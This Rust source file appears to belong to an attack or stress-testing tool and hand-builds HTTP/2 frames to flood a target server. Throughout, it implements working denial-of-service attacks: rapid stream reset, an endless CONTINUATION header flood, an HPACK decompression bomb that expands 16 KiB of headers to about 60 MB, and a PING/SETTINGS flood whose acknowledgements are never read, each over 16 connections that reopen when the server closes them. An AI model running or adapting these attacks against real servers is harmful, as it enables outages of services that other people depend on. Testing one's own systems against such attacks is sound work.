//! Attacks on HTTP/2 with prior knowledge, frame by frame, as no client library would send them.
//!
//! A node that does not speak HTTP/2 sees malformed HTTP/1.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};

use super::attack::Attack;
use super::http::Connection;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The error code with which a client cancels a stream.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// The largest frame that a peer accepts by default.
const FRAME_BYTES_MAX: usize = 16_384;

/// Streams that are opened and cancelled at once.
pub(crate) async fn rapid_reset(attack: &Attack) {
    let head = search_head();
    send_frames(attack, move |round| {
        let streams = (0..100).map(|at| 2 * (100 * round + at) + 1);
        let frames = streams.flat_map(|stream| {
            [
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &head),
                frame(RST_STREAM, 0, stream, &CANCEL),
            ]
        });
        frames.collect::<Vec<_>>().concat()
    })
    .await;
}

/// Headers that never end.
pub(crate) async fn continuation_flood(attack: &Attack) {
    send_frames(attack, |round| {
        let fields = literal_field("x-a", &"b".repeat(100)).repeat(100);
        match round {
            0 => frame(HEADERS, END_STREAM, 1, &search_head()),
            _ => frame(CONTINUATION, 0, 1, &fields),
        }
    })
    .await;
}

/// Headers of 16 KiB that decode to 60 MB, because each byte repeats a field of 4,000 bytes.
pub(crate) async fn header_bomb(attack: &Attack) {
    send_frames(attack, |round| {
        let stream = 2 * round + 1;
        let mut fields = search_head();
        // With incremental indexing, so that index 62 refers to it.
        fields.push(0x40);
        fields.extend(string("x"));
        fields.extend(string(&"c".repeat(3_900)));
        fields.resize(FRAME_BYTES_MAX, 0x80 | 62);
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields)
    })
    .await;
}

/// Frames that each require an acknowledgement, which the client does not read.
pub(crate) async fn control_flood(attack: &Attack) {
    send_frames(attack, |_| {
        let ping = frame(PING, 0, 0, &[7; 8]);
        let settings = frame(SETTINGS, 0, 0, &[]);
        [ping, settings].concat().repeat(50)
    })
    .await;
}

/// Sends what a function returns for each round, on connections that are opened again when the node
/// closes them.
async fn send_frames(
    attack: &Attack,
    frames: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
) {
    match speaks_http2(attack).await {
        Ok(true) => attack.note("the node speaks HTTP/2".to_owned()),
        _ => attack.note("the node does not speak HTTP/2".to_owned()),
    }
    attack
        .repeat(16, move |_, mut connection, _| {
            let frames = frames.clone();
            async move {
                connection.send(PREFACE).await?;
                connection.send(&frame(SETTINGS, 0, 0, &[])).await?;
                for round in 0.. {
                    connection.send(&frames(round)).await?;
                    // A batch per millisecond and connection, not a busy loop of the client.
                    sleep(Duration::from_millis(1)).await;
                }
                Ok(())
            }
        })
        .await;
}

/// Whether the node answers the preface with its settings.
async fn speaks_http2(attack: &Attack) -> io::Result<bool> {
    let mut connection = Connection::open(attack.address).await?;
    connection.send(PREFACE).await?;
    let settings = frame(SETTINGS, 0, 0, &[]);
    connection.stream.write_all(&settings).await?;
    let mut head = [0; 9];
    let read = connection.stream.read_exact(&mut head);
    match timeout(Duration::from_millis(500), read).await {
        Ok(read) => read.map(|_| head[3] == SETTINGS),
        Err(_) => Ok(false),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

/// The header fields of a search, in HPACK.
fn search_head() -> Vec<u8> {
    // Of the static table: GET, http, and the names of path and authority.
    let mut fields = vec![0x82, 0x86, 0x04];
    fields.extend(string("/api/v1/rooms/search?lat=19.1334&lng=72.9133"));
    fields.push(0x01);
    fields.extend(string("roost"));
    fields
}

/// A field that is not indexed.
fn literal_field(name: &str, value: &str) -> Vec<u8> {
    [vec![0], string(name), string(value)].concat()
}

/// A string of HPACK without Huffman coding: its length, as an integer of 7 bits and more, and its
/// bytes.
fn string(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    match u8::try_from(text.len()) {
        Ok(length @ 0..127) => bytes.push(length),
        _ => {
            bytes.push(127);
            let mut rest = text.len() - 127;
            while rest >= 128 {
                bytes.push(u8::try_from(rest % 128).unwrap_or_default() | 128);
                rest /= 128;
            }
            bytes.push(u8::try_from(rest).unwrap_or_default());
        }
    }
    bytes.extend(text.bytes());
    bytes
}
